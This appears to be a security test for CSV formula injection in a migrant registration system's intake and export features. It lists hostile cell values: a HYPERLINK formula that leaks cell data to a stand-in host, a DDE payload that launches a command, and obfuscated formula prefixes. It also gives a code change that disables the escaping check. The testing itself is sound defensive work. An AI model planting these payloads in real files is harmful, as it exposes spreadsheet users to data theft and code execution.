"""Somebody who sends in a file of arrivals puts formulas into columns, so that the officer's spreadsheet runs them."""

import csv
import io
import re

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
CELLS = [FORMULA, "\uff1d1+1", "\uff0bcmd", "\uff0d2+3", "\uff20SUM(A1)", " =1+1", "\t=1+1", '"=1+1', "\u200b=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\u00a0=1", "'=1+1"]
STARTS = re.compile("[\\s\\x00-\\x1f'\"\u200b\u00a0\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20]")


def runs(cell):
    return not cell.startswith("'") and bool(STARTS.match(cell)) and not re.fullmatch(r"[+-]?[0-9.]+( [A-Z]{3})?", cell)


def attack(sf, folder):
    found = []
    path = folder / "r.safar"
    with sf.Register.create(path, office="BKO", keys=sf.keys.file(folder / "r.key"), programme="ML-JI") as register, register.session("fatou.d", "intake_clerk", "casework") as s:
        for n, text in enumerate(CELLS):
            # In an open, a counted and a named column; also as the name of a column.
            quoted = '"' + text.replace('"', '""') + '"'
            other = quoted[:-1] + ' column"'
            file = folder / f"{n}.csv"
            file.write_text(f"given_name,nationality,sex,site,{other}\nMariam,{quoted},{quoted},ML-BKO-1,1\n", encoding="utf-8")
            report = s.intake(file, mapping={"v": 1, "quote_cells": True, "rows_are": "persons", "columns": {
                "given_name": "/persons/-/given_name", "nationality": "/persons/-/nationality", "sex": "/persons/-/sex", "site": "/site"}})
            for row in csv.reader(io.StringIO(report.issues_csv)):
                found += [f"issues_csv runs {cell!r}" for cell in row if runs(cell)]
        # From a view, in text that an applicant gave.
        for n, text in enumerate(CELLS):
            if not text.isprintable() and text[0] != "\t":
                continue
            s.execute(sf.Apply(site="ML-BKO-1", ref=text + f" {n}", persons=[sf.Migrant(given_name=text, family_name="x;=1+1")]))
        text = s.query("persons").to_csv()
        for row in csv.reader(io.StringIO(text)):
            found += [f"a frame runs {cell!r}" for cell in row if runs(cell)]
        if re.search(r'(?m)(^|,)x;=1\+1', text):
            found.append("a frame's cell splits at ; into a formula")
    return found


UNMENDED = [("src/exchange/csv_cell.cpp", "  return begins_formula(s);\n", "  return begins_formula(s) && s.empty();\n")]
